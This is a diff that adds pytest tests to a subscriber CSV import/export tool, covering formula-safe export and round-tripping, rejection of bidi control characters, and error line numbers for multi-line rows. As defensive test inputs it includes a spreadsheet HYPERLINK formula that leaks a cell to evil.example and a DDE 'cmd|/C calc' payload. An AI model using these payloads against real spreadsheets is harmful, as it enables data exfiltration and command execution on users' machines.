@@ -1,5 +1,6 @@
 """Subscribers from real-world CSV files: encodings, delimiters, headers, case, bad rows."""
 
+import csv
 import json
 import sqlite3
 
@@ -7,9 +8,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from publisher.actions import confirm_action
 from publisher.migrations import MIGRATIONS
+from publisher.notices import find
 from publisher.store import Store
-from publisher.subscribers import canonical_email
+from publisher.subscribers import FORMULA_STARTS, Subscriber, canonical_email, from_inert, inert
 
 NEWS = [{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}]
 
@@ -53,6 +56,7 @@ def test_case_variants_of_one_address_are_one_subscriber(people, project):
             "school": "Oak",
             "audiences": ["dsls", "headteachers"],
             "frequency": "immediately",
+            "self_service": False,  # imported: the council vouches for the school
         }
     }
 
@@ -274,3 +278,133 @@ def test_frequency_column_is_read_and_kept_when_a_file_has_none(people, project)
         "email,name,school,audiences,frequency\nkim@ash.example,Kim,Ash,dsls,daily\n", expect=1
     )
     assert "frequency 'daily' is not one of immediately, weekly, monthly" in bad.stderr
+
+
+# Formula-safe CSV out, and exactly the same values back in -------------------------------
+
+ROUND_TRIP_NAMES = [
+    "@Home Nursery",
+    "-St Mary's",
+    "+44 Academy",
+    "=1+1",
+    "'t Hooft Academy",
+    "'=quoted",
+    "''",
+    "'",
+    "Plain Primary",
+]
+
+
+@pytest.mark.parametrize("name", ROUND_TRIP_NAMES)
+def test_export_then_import_keeps_names_and_schools_exactly(people, project, tmp_path, name):
+    store = Store(project.data_dir)
+    with store.transaction():
+        store.save_subscribers([Subscriber("jo@oak.example", name, name, ("dsls",))])
+    store.close()
+    exported = tmp_path / "out.csv"
+    project.run("subscribers", "export", str(exported))
+    for cell in next(csv.reader(exported.read_text().splitlines()[1:])):
+        assert not cell.startswith(FORMULA_STARTS)
+    again = people(exported.read_text(), name="again.csv")
+    assert "0 updated, 1 unchanged" in again.stdout
+    row = listed(project)["jo@oak.example"]
+    assert (row["name"], row["school"]) == (name, name)
+
+
+@given(st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), max_size=40))
+def test_a_cell_made_inert_reads_back_as_it_was(text):
+    cell = " ".join(text.split())
+    assert not inert(cell).startswith(FORMULA_STARTS)
+    assert from_inert(inert(cell)) == cell
+
+
+def test_a_hand_typed_apostrophe_is_kept(people, project):
+    people("email,name,school,audiences\njo@oak.example,'t Hooft,'Ohana Nursery,dsls\n")
+    row = listed(project)["jo@oak.example"]
+    assert (row["name"], row["school"]) == ("'t Hooft", "'Ohana Nursery")
+
+
+def test_mi_status_csv_is_formula_safe(people, project):
+    people(
+        "email,name,school,audiences\n"
+        'evil@a.example,Eve,"=HYPERLINK(""http://evil.example/?x=""&A2,""Oak"")",dsls\n'
+        "jo@oak.example,Jo,-St Mary's,dsls\n"
+    )
+    project.run(
+        "mi", "new", "--title", "Audit", "--type", "Action", "--due", "7", "--audience", "dsls"
+    )
+    project.run("mi", "approve", "1")
+    project.run("mi", "publish", "1", "--at", "2024-01-03 10:00")
+    project.run("send", "--mi", "1/24")
+    store = Store(project.data_dir)
+    confirm_action(store, find(store, "1/24"), "evil@a.example", "@SUM(1+1)*cmd|'/C calc'!A0")
+    store.close()
+    output = project.run("mi", "status", "1/24", "--format", "csv").output
+    rows = list(csv.reader(output.splitlines()))
+    assert rows[0] == ["school", "status", "confirmed_by", "confirmed_at", "note"]
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+    assert '\'=HYPERLINK("http://evil.example/?x="&A2,"Oak")' in cells
+    assert "'@SUM(1+1)*cmd|'/C calc'!A0" in cells and "'-St Mary's" in cells
+    assert {from_inert(row[0]) for row in rows[1:]} == {
+        '=HYPERLINK("http://evil.example/?x="&A2,"Oak")',
+        "-St Mary's",
+    }
+
+
+# Characters that hide or reorder text ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "\u202eevil\u202c",
+        "Jo\u202d Patel",
+        "\u2066Jo\u2069",
+        "Jo\u2067x\u2069",
+        "\u202aJo",
+        "\u202bJo",
+    ],
+    ids=["RLO PDF", "LRO", "LRI PDI", "RLI", "LRE", "RLE"],
+)
+@pytest.mark.parametrize("column", ["name", "school"])
+def test_rows_with_bidi_controls_are_rejected_by_line(people, project, cell, column):
+    values = {"name": "Jo", "school": "Oak", column: cell}
+    result = people(
+        "email,name,school,audiences\nkim@ash.example,Kim,Ash,dsls\n"
+        f"jo@oak.example,{values['name']},{values['school']},dsls\n"
+    )
+    assert f"line 3: contains control characters in the {column} cell" in result.stderr
+    assert list(listed(project)) == ["kim@ash.example"]
+
+
+# Line numbers of rows that span lines -----------------------------------------------------
+
+
+@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["LF", "CRLF"])
+def test_errors_name_the_line_a_multi_line_row_starts_on(people, project, newline):
+    rows = [
+        "email,name,school,audiences",
+        'kim@ash.example,"Kim',  # line 2: a name over two lines, then an unknown audience
+        'Lee",Ash,parents',
+        'sam@elm.example,Sam,"Elm',  # line 4: a school over three lines, fine
+        "",
+        'Primary",dsls',
+        "not-an-email,Broken,Nowhere,dsls",  # line 7
+        'lee@ash.example,"Lee',  # line 8: and with no audience
+        'Smith",Ash,',
+    ]
+    result = people(newline.join(rows) + newline)
+    assert "line 2: unknown audience parents" in result.stderr
+    assert "line 7: 'not-an-email' is not an email address" in result.stderr
+    assert "line 8: lee@ash.example has no audiences" in result.stderr
+    assert listed(project)["sam@elm.example"]["school"] == "Elm Primary"
+
+
+def test_an_unclosed_quote_names_the_line_it_opens_on(people):
+    result = people(
+        'email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\nkim@ash.example,"Kim,Ash,dsls\n'
+        "sam@elm.example,Sam,Elm,dsls\n",
+        expect=None,
+    )
+    assert "line 3" in result.output and "Traceback" not in result.output
